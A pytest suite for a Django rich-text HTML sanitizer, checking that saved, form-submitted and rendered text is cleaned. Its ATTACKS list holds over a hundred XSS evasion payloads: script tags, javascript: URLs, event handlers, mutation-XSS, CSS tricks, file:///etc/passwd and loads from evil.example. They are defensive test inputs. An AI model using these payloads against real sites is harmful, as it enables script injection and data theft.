"""What a rich text keeps and what it never carries, by whichever way it came."""

import re
from html.parser import HTMLParser

import pytest
from django import forms
from django.core.exceptions import ValidationError
from django.db import connection, models
from django.template import Context, Template
from django.test.utils import isolate_apps
from hypothesis import given
from hypothesis import strategies as st

from mediacenter.toolkit import richtext
from mediacenter.toolkit.richtext import (
    CKEDITOR_CONFIGS,
    PASTE_REMARKS,
    RichTextField,
    RichTextFormField,
    plain_text,
    sanitize,
)

SAFE_ATTRIBUTES = {
    "href", "hreflang", "title", "rel", "src", "alt", "width", "height", "start", "value", "span",
    "colspan", "rowspan", "scope", "lang", "dir", "class", "style",
}  # fmt: skip
# As browsers read an address: they skip what lies before the scheme, and line breaks within.
SCHEME = re.compile(r"[\0- ]*([A-Za-z][A-Za-z0-9+.-]*):")
SAFE_TAGS = richtext.BLOCKS | richtext.INLINE | richtext.LISTS | richtext.TABLES

# By the classes of OWASP's filter-evasion list, and those that broke sanitizers since.
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss src=//evil.example></script>",
    "<<script>alert(1);//<</script>",
    "<script src=//evil.example/.j",
    "\\\";alert(1);//<script>",
    "</title><script>alert(1)</script>",
    '<img src="javascript:alert(1)">',
    "<img src=JaVaScRiPt:alert(1)>",
    "<img src=`javascript:alert(1)`>",
    '<img """><script>alert(1)</script>">',
    "<img src=# onmouseover=alert(1)>",
    "<img src=/ onerror=alert(1)>",
    "<img src=x onerror=&#x61;lert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="/media/a.png"onerror="alert(1)">',
    '<img src="/media/../admin/logout/">',
    '<img src="/media/%2e%2e/admin/logout/">',
    '<img src="/mediacenter.png">',
    '<img src="//evil.example/media/a.png">',
    '<img src="https://evil.example/pixel.gif">',
    '<img srcset="https://evil.example/pixel.gif 1x">',
    '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav\nascript:alert(1)">x</a>',
    '<a href="java\0script:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097script:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a onclick=alert(1) href="/" onmouseover="alert(1)">x</a>',
    '<a href="/" target="_blank" rel="opener" ping="https://evil.example">x</a>',
    '<a data-cke-saved-href="javascript:alert(1)" href="/">x</a>',
    "<!--{cke_protected}%3Cscript%3Ealert(1)%3C/script%3E-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<![CDATA[<!--]]<script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>",
    "<?xml version=1?><script>alert(1)</script>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",  # noqa: E501
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<plaintext><script>alert(1)</script>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<style>@import "https://evil.example/x.css";</style>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="text-align:center;position:fixed;top:0">x</p>',
    '<p style="text-align:url(https://evil.example)">x</p>',
    '<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>',
    '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</table>',
    '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',  # noqa: E501
    '<input autofocus onfocus="alert(1)">',
    '<video><source onerror="alert(1)"></video>',
    '<audio src=x onerror=alert(1)>',
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<div id=__proto__ name=getElementById class=admin-only>x</div>",
    "<p contenteditable autofocus onfocus=alert(1) tabindex=1 accesskey=x>x</p>",
    "<p lang='\" onmouseover=alert(1)'>x</p>",
    "<x-custom onclick=alert(1) is=y>x</x-custom>",
    "<a onmouseover=alert(1)>x</a>",
    "<img src=x onmouseover!#$%&()*~+-_.,:;?@[/|]^`=alert(1)>",
    "<img src=javascript:alert(String.fromCharCode(88))>",
    '<img src="javascript:alert(1)"',
    '<img src="livescript:alert(1)">',
    "<img src='vbscript:msgbox(1)'>",
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C">x</a>',
    '<a href="javascript:/*--></title></style></textarea></script></xmp><svg/onload=alert(1)>">x',
    '<script a=">" src="https://evil.example/x.js"></script>',
    "<script a=`>` src=//evil.example/x.js></script>",
    '<input type="image" src="javascript:alert(1)">',
    '<body background="javascript:alert(1)">',
    '<bgsound src="javascript:alert(1)">',
    '<br size="&{alert(1)}">',
    '<layer src="https://evil.example/x.html"></layer>',
    "<style>li {list-style-image: url('javascript:alert(1)');}</style><ul><li>x</ul>",
    "<style>@im\\port'\\ja\\vasc\\ript:alert(1)';</style>",
    '<p style="xss:expr/*XSS*/ession(alert(1))">x</p>',
    '<xss style="behavior: url(xss.htc)">x</xss>',
    '<div style="background-image:\\0075\\0072\\006C(javascript:alert(1))">x</div>',
    '<meta http-equiv="Set-Cookie" content="id=&lt;script&gt;alert(1)&lt;/script&gt;">',
    '<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml">',
    '<xml id="x"><i><b><img src="javas<!-- -->cript:alert(1)"></b></i></xml>',
    '<?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML">',
    '<!--#exec cmd="/bin/echo x"--><? echo("<script>alert(1)</script>"); ?>',
    "+ADw-SCRIPT+AD4-alert(1)+ADw-/SCRIPT+AD4-",
    "\ufeff<\u200bscript>alert(1)</script>",
    "<p>\ud800</p><b>\0</b>",
]  # fmt: skip

tags = st.sampled_from(
    [*sorted(SAFE_TAGS), "script", "style", "svg", "math", "form", "font", "o:p"]
)
pieces = st.one_of(
    st.text(max_size=12),
    st.builds("<{}>".format, tags),
    st.builds("</{}>".format, tags),
    st.sampled_from(ATTACKS),
    st.sampled_from(['<a href="/">', '<img src="/media/a.png" alt="">', "<!--", "-->", "&nbsp;"]),
)
soup = st.lists(pieces, max_size=25).map("".join)


class Markup(HTMLParser):
    """Collects what a browser would act on."""

    def __init__(self, text):
        super().__init__()
        self.tags, self.attributes, self.addresses, self.styles = set(), set(), [], []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        for name, value in attrs:
            self.attributes.add(name)
            if name in {"href", "src"}:
                self.addresses.append((tag, value))
            if name == "style":
                self.styles.append(value)

    def handle_comment(self, text):
        self.tags.add("<!---->")

    handle_decl = handle_pi = unknown_decl = handle_comment


def assert_harmless(text):
    markup = Markup(text)
    assert markup.tags <= SAFE_TAGS
    assert markup.attributes <= SAFE_ATTRIBUTES
    for tag, address in markup.addresses:
        if tag == "img":
            assert address.startswith("/media/")
            assert not {"..", "%"} & set(re.findall(r"\.\.|%", address))
        else:
            scheme = SCHEME.match(re.sub(r"[\t\n\r]", "", address))
            assert scheme is None or scheme[1].lower() in {"http", "https", "mailto", "tel"}
    assert set(markup.styles) <= {
        f"text-align:{way}" for way in ("left", "right", "center", "justify")
    }


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_or_calls_elsewhere_is_left(attack):
    assert_harmless(sanitize(f"<p>before</p>{attack}<p>after</p>"))


@given(soup)
def test_no_mixture_of_attacks_and_markup_gets_through(text):
    cleaned = sanitize(text)
    assert_harmless(cleaned)
    assert sanitize(str(cleaned)) == cleaned


ARTICLE = (
    '<h2>Әлеуметтік әріптестік</h2><p lang="kk" style="text-align:justify">Қарағанды '
    'облысының <strong>ұйымы</strong> «үнқосу», <em>ғылым</em> &amp; өңір — һәм іс</p>'
    '<ul><li>бір</li><li>екі<ol start="3"><li>үш</li></ol></li></ul>'
    '<blockquote><p>Вместе</p></blockquote>'
    '<table><caption>Есеп</caption><thead><tr><th scope="col">Жыл</th><th scope="col">Саны</th>'
    '</tr></thead><tbody><tr><td>2024</td><td colspan="2" style="text-align:right">120</td></tr>'
    '</tbody></table>'
    '<figure class="image align-left"><img src="/media/pictures/4f/a.webp" alt="Жиналыс" '
    'width="960" height="540"><figcaption>Жиналыс</figcaption></figure>'
    '<p><a href="https://kasipodaq.kz/" rel="noopener">сайт</a> '
    '<a href="/kk/news/" rel="noopener">жаңалықтар</a> '
    '<a href="mailto:a@example.org" rel="noopener">пошта</a> '
    '<a href="tel:+77212000000" rel="noopener">телефон</a></p><hr>'
)  # fmt: skip


def test_an_honest_article_comes_back_letter_for_letter():
    assert sanitize(ARTICLE) == ARTICLE


def test_what_word_pastes_becomes_plain_paragraphs():
    pasted = (
        '<p class="MsoNormal" style="margin:0cm;font-family:Calibri"><o:p></o:p>'
        '<font color="red"><span style="mso-fareast-language:EN-US">Құрметті</span></font>'
        " мүшелер</p>"
    )
    assert sanitize(pasted) == "<p><span>Құрметті</span> мүшелер</p>"


def test_a_picture_from_elsewhere_disappears_whole():
    text = '<p>a<img src="https://evil.example/pixel.gif" alt="x">b</p>'
    assert sanitize(text) == "<p>ab</p>"


def test_pictures_follow_the_media_address_of_the_installation(settings):
    settings.MEDIA_URL = "https://cdn.example.org/files/"
    kept = '<p><img src="https://cdn.example.org/files/a.webp" alt=""></p>'
    assert sanitize(kept) == kept
    assert sanitize('<p>x<img src="/media/a.webp" alt=""></p>') == "<p>x</p>"


@pytest.mark.parametrize(
    "empty", ["", " ", "<p>&nbsp;</p>", "<p><br></p>", "<script>1</script>", "<p></p>\n<p> </p>"]
)
def test_a_text_without_anything_to_see_is_empty(empty):
    assert sanitize(empty) == ""


def test_plain_text_is_what_a_reader_sees():
    assert plain_text("<h2>Есеп</h2><p>a &lt;b&gt;&nbsp;&amp;<br>c</p>") == "Есеп a <b> & c"


def test_a_deeply_nested_text_is_read_to_the_end():
    assert "соңы" in sanitize("<div><b>" * 100 + "соңы")


with isolate_apps("mediacenter.toolkit"):

    class Note(models.Model):
        body = RichTextField(blank=True, null=True)
        lead = models.TextField(blank=True)

        class Meta:
            app_label = "toolkit"

        def __str__(self):
            return plain_text(self.body or "")


@pytest.fixture
def notes(transactional_db):
    with connection.schema_editor() as editor:
        editor.create_model(Note)
    yield Note.objects
    with connection.schema_editor() as editor:
        editor.delete_model(Note)


DIRTY, CLEAN = "<p onclick=x()>иә</p><script>x()</script>", "<p>иә</p>"


def test_every_way_into_the_database_sanitizes(notes):
    saved = notes.create(body=DIRTY)
    assert saved.body == CLEAN, "the instance shows what was stored"
    notes.bulk_create([Note(body=DIRTY)])
    updated = notes.create()
    notes.filter(pk=updated.pk).update(body=DIRTY)
    bulk_updated = notes.create()
    bulk_updated.body = DIRTY
    notes.bulk_update([bulk_updated], ["body"])
    stored = notes.values_list("body", flat=True)
    assert list(stored) == [CLEAN] * 4


def test_nothing_stated_stays_nothing_stated(notes):
    assert notes.create(body=None).body is None
    assert notes.filter(body__isnull=True).count() == 1


def test_a_search_in_the_column_takes_the_words_as_they_are(notes):
    notes.create(body="<p>екі сөз</p>")
    assert notes.filter(body__contains="і с").count() == 1
    assert notes.filter(body__contains=" ").count() == 1


def test_a_column_may_be_filled_from_another_one(notes):
    note = notes.create(body="<p>a</p>", lead="<p>b</p>")
    notes.filter(pk=note.pk).update(body=models.F("lead"))
    assert notes.get().body == "<p>b</p>"


class NoteForm(forms.ModelForm):
    class Meta:
        model = Note
        fields = ["body"]


class RequiredNoteForm(forms.Form):
    body = richtext.RichTextFormField()


def test_a_form_cleans_what_it_takes():
    form = NoteForm({"body": DIRTY})
    assert form.is_valid()
    assert form.cleaned_data["body"] == form.instance.body == CLEAN


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ("Бір\r\nекі\r\n \r\n<b>Үш</b> < 4", "<p>Бір<br>екі</p>\n\n<p><b>Үш</b> &lt; 4</p>"),
        ("<p>Бар</p>\n\nЖаңа", "<p>Бар</p>\n\n<p>Жаңа</p>"),
        ("<ul>\n\t<li>а</li>\n\n\t<li>ә</li>\n</ul>", "<ul>\n\t<li>а</li>\n\n<li>ә</li>\n</ul>"),
        (" \n\n ", ""),
    ],
)
def test_what_is_typed_without_the_editor_keeps_its_paragraphs(typed, kept):
    form = NoteForm({"body": typed})
    assert form.is_valid()
    assert form.cleaned_data["body"] == kept


def test_a_required_text_of_nothing_but_space_is_missing():
    assert not RequiredNoteForm({"body": "<p>&nbsp;</p>"}).is_valid()


def test_the_editor_is_never_given_what_has_not_been_sanitized():
    widget = NoteForm(initial={"body": DIRTY})["body"].as_widget()
    assert "onclick" not in widget
    assert "&lt;p&gt;иә&lt;/p&gt;" in widget


def test_a_template_escapes_it_until_told_otherwise():
    page = Template("{{ body }}|{{ body|safe }}").render(Context({"body": sanitize(DIRTY)}))
    assert page == f"&lt;p&gt;иә&lt;/p&gt;|{CLEAN}"


def test_a_changed_text_is_no_longer_taken_for_clean():
    assert sanitize(sanitize("<p>a</p>") + "<script>x()</script>") == "<p>a</p>"


def test_a_long_article_is_read_once_on_its_way_from_form_to_database(notes, monkeypatch):
    readings = []
    clean = richtext._clean
    monkeypatch.setattr(richtext, "_clean", lambda text: readings.append(1) or clean(text))
    form = NoteForm({"body": "<p>Қазақстан кәсіподақтары</p>" * 3000})
    form.save()
    assert len(readings) == 2, "one reading and one to see that it has settled"


def test_the_editors_toolbar_offers_only_what_the_policy_keeps():
    config = CKEDITOR_CONFIGS["default"]
    buttons = {button for group in config["toolbar"] for button in group}
    assert not buttons & {"Source", "Preview", "Flash", "Iframe", "Smiley", "Templates", "Anchor"}
    assert set(config["format_tags"].split(";")) <= SAFE_TAGS
    assert {"exportpdf", "preview", "sourcearea", "iframe"} <= set(
        config["removePlugins"].split(",")
    )
    assert config["versionCheck"] is False
    assert "allowedContent" not in config


def test_what_its_writer_deleted_does_not_enter():
    assert sanitize("<p>екі<del>бір</del> <ins>үш</ins></p>") == "<p>екі үш</p>"


@pytest.mark.parametrize("link", ['href="#_ftn1" name="_ftnref1"', 'href="file:///C:/a.docx"', ""])
def test_a_link_that_leads_nowhere_is_its_words(link):
    live = '<a href="https://example.org/" rel="noopener">Заң</a>'
    assert sanitize(f"<p>Сөз<sup><a {link}>[1]</a></sup> {live}</p>") == (
        f"<p>Сөз<sup>[1]</sup> {live}</p>"
    )


def test_a_form_says_which_pictures_are_not_shown_before_they_are_dropped():
    field = RichTextFormField()
    own = '<p><img src="/media/pictures/a.webp" alt="a"></p>'
    assert field.clean(own) == sanitize(own)
    sent = own + '<img alt="b" src="https://example.org/b.jpg"><IMG SRC=file:///C:/c.jpg>'
    with pytest.raises(ValidationError) as refusal:
        field.clean(sent)
    assert refusal.value.messages == [str(PASTE_REMARKS[name]) for name in ("foreign", "local")]
    assert field.clean(field.widget.format_value(sent)) == sanitize(own)
